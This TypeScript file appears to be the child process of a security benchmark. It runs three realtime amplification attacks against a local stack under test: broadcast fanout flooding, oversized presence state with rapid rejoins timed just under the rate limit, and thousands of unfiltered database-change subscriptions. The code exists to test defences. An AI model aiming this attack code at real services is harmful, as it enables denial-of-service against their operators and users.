import http from 'node:http';
import ws from 'ws';
import { runBenchChild } from './child';

/**
 * Child process of the amplification bench (realtime-amplification.ts; issue 46's three high findings), from
 * BENCH_ABUSE_ADDRESS (127.0.0.2) against the stack at BENCH_STACK_URL with its anon key, in the mode
 * BENCH_AMPLIFY_MODE:
 * - `fanout` (RT-FANOUT): 200 sockets join one public topic and read everything; once joined, a 240 KB broadcast
 *   goes to the topic through the REST broadcast API five times a second.
 * - `presence` (RT-PRESENCE-STATE-AMP): 14 sockets each track 250 KB of presence on one public topic (3.5 MB in all);
 *   then one socket joins that topic with presence on, leaves and joins again without pause.
 * - `changes` (RT-CHANGES-AMP): 36 sockets of 100 channels each (3,600) subscribe to every change of
 *   `conversation_messages`, without a filter.
 * Prints `READY {}` once the attack is set up and running; on SIGTERM, `RESULT <counts>` and exits.
 */
const stackUrl = process.env.BENCH_STACK_URL!;
const anonKey = process.env.BENCH_ANON_KEY!;
const address = process.env.BENCH_ABUSE_ADDRESS ?? '127.0.0.2';
const mode = process.env.BENCH_AMPLIFY_MODE as 'fanout' | 'presence' | 'changes';

const FANOUT_SOCKETS = 200;
const BROADCAST_BYTES = 240 * 1000;
const BROADCASTS_PER_SECOND = 5;
const PRESENCE_SOCKETS = 14;
const PRESENCE_BYTES = 250 * 1000;
const CHANGE_SOCKETS = 36;
const CHANNELS_PER_SOCKET = 100;

type Frame = { topic: string; event: string; ref: string | null; payload: { status?: string; response?: { reason?: string } } };

export interface AmplifyCounts {
  mode: string;
  /** Sockets and channels the attack holds. */
  sockets: number;
  channels: number;
  /** fanout: broadcasts accepted (202) and refused; bytes the sockets received. */
  sent: number;
  refused: number;
  receivedBytes: number;
  /** presence: joins answered ok and refused. */
  joins: number;
  joinsRefused: number;
}

const counts: AmplifyCounts = { mode, sockets: 0, channels: 0, sent: 0, refused: 0, receivedBytes: 0, joins: 0, joinsRefused: 0 };
const sockets: ws[] = [];
let stopped = false;
let ref = 0;

/** A socket that reads everything it is sent, counting the bytes; resolves once open. */
function connect(): Promise<ws> {
  const url = `${stackUrl.replace(/^http/, 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=1.0.0`;
  const socket = new ws(url, { localAddress: address, maxPayload: 64 * 1024 * 1024 });
  sockets.push(socket);
  socket.on('message', (data: Buffer) => (counts.receivedBytes += data.length));
  socket.on('error', () => undefined);
  return new Promise((resolve, reject) => {
    socket.once('open', () => {
      counts.sockets++;
      resolve(socket);
    });
    socket.once('unexpected-response', (_req, res) => reject(new Error(`upgrade refused: ${res.statusCode}`)));
  });
}

function push(socket: ws, topic: string, event: string, payload: unknown): string {
  const r = String(++ref);
  socket.send(JSON.stringify({ topic, event, payload, ref: r, join_ref: event === 'phx_join' ? r : null }));
  return r;
}

function replyTo(socket: ws, r: string): Promise<Frame> {
  return new Promise((resolve) => {
    const listener = (data: Buffer) => {
      const text = data.toString();
      if (!text.includes(`"ref":"${r}"`)) return;
      const frame = JSON.parse(text) as Frame;
      if (frame.event !== 'phx_reply' || frame.ref !== r) return;
      socket.off('message', listener);
      resolve(frame);
    };
    socket.on('message', listener);
  });
}

async function join(socket: ws, topic: string, config: unknown): Promise<boolean> {
  const reply = await replyTo(socket, push(socket, `realtime:${topic}`, 'phx_join', { config }));
  return reply.payload.status === 'ok';
}

/** A heartbeat every 20 s, as clients send them (the stack closes a socket silent for 60 s). */
function heartbeats(): NodeJS.Timeout {
  return setInterval(() => {
    for (const socket of sockets) if (socket.readyState === socket.OPEN) push(socket, 'phoenix', 'heartbeat', {});
  }, 20_000);
}

/** POST with the payload from the abuser's address (fetch cannot choose its local address). */
function restBroadcast(body: Buffer): Promise<number> {
  const url = new URL(`${stackUrl}/realtime/v1/api/broadcast/bench-fanout/events/big`);
  return new Promise((resolve) => {
    const req = http.request(
      url,
      {
        method: 'POST',
        localAddress: address,
        headers: { apikey: anonKey, authorization: `Bearer ${anonKey}`, 'content-type': 'application/json', 'content-length': body.length },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', () => resolve(0));
    req.end(body);
  });
}

async function fanout(): Promise<void> {
  const all = await Promise.all(Array.from({ length: FANOUT_SOCKETS }, () => connect()));
  for (const ok of await Promise.all(all.map((s) => join(s, 'bench-fanout', {})))) if (ok) counts.channels++;
  const body = Buffer.from(JSON.stringify({ blob: 'x'.repeat(BROADCAST_BYTES - 20) }));
  const loop = async () => {
    while (!stopped) {
      const started = Date.now();
      const status = await restBroadcast(body);
      if (status === 202) counts.sent++;
      else counts.refused++;
      await new Promise((r) => setTimeout(r, Math.max(0, 1000 / BROADCASTS_PER_SECOND - (Date.now() - started))));
    }
  };
  void loop();
}

async function presence(): Promise<void> {
  const trackers = await Promise.all(Array.from({ length: PRESENCE_SOCKETS }, () => connect()));
  const meta = { blob: 'p'.repeat(PRESENCE_BYTES - 100) };
  await Promise.all(
    trackers.map(async (socket, i) => {
      if (!(await join(socket, 'bench-presence', { presence: { key: `tracker-${i}`, enabled: true } }))) return;
      const reply = await replyTo(
        socket,
        push(socket, 'realtime:bench-presence', 'presence', { type: 'presence', event: 'track', payload: meta }),
      );
      if (reply.payload.status === 'ok') counts.channels++;
    }),
  );
  const rejoiner = await connect();
  const loop = async () => {
    while (!stopped && rejoiner.readyState === rejoiner.OPEN) {
      if (await join(rejoiner, 'bench-presence', { presence: { key: 'rejoiner', enabled: true } })) counts.joins++;
      else counts.joinsRefused++;
      push(rejoiner, 'realtime:bench-presence', 'phx_leave', {});
      // The stack refuses more than 100 joins a second (and closes the socket): just under it.
      await new Promise((r) => setTimeout(r, 11));
    }
  };
  void loop();
}

async function changes(): Promise<void> {
  const all = await Promise.all(Array.from({ length: CHANGE_SOCKETS }, () => connect()));
  const config = { postgres_changes: [{ event: '*', schema: 'public', table: 'conversation_messages' }] };
  await Promise.all(
    all.map(async (socket, s) => {
      for (let c = 0; c < CHANNELS_PER_SOCKET; c++) {
        if (await join(socket, `bench-changes-${s}-${c}`, config)) counts.channels++;
      }
    }),
  );
}

runBenchChild<Record<string, never>>(`realtime amplify (${mode})`, async () => {
  if (mode === 'fanout') await fanout();
  else if (mode === 'presence') await presence();
  else if (mode === 'changes') await changes();
  else throw new Error(`unknown BENCH_AMPLIFY_MODE ${mode}`);
  const beat = heartbeats();
  return {
    info: {},
    async stop() {
      stopped = true;
      clearInterval(beat);
      for (const socket of sockets) socket.terminate();
      process.stdout.write(`RESULT ${JSON.stringify(counts)}\n`);
    },
  };
});
